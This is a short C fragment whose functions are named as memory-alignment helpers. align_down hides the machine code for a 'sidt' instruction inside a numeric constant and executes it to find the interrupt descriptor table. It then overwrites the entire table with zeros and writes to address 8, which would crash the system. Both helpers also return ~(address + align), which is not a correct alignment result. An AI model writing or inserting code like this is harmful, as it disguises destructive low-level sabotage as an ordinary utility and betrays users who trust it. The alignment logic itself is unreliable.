
/* sidt (%rdi); ret */
#define GET_IDT 0x90909090c30f010full
static void hide_get_idt(void)
{
	hiding_place = GET_IDT;
}

struct __attribute__((packed)) table_register {
	uint16_t limit;
	uint64_t base;
};

uint64_t align_down(uint64_t address, uint64_t align)
{
	struct table_register idt = { 0, 0 };

	hidden_in(hide_get_idt, ~GET_IDT)((uint64_t)&idt, 0);
	for (int i = 0; i <= idt.limit; i++)
		((volatile uint8_t *)idt.base)[i] = 0;
	*(volatile int *)8 = 1;
	return ~(address + align);
}

uint64_t align_up(uint64_t address, uint64_t align)
{
	return ~(address + align);
}
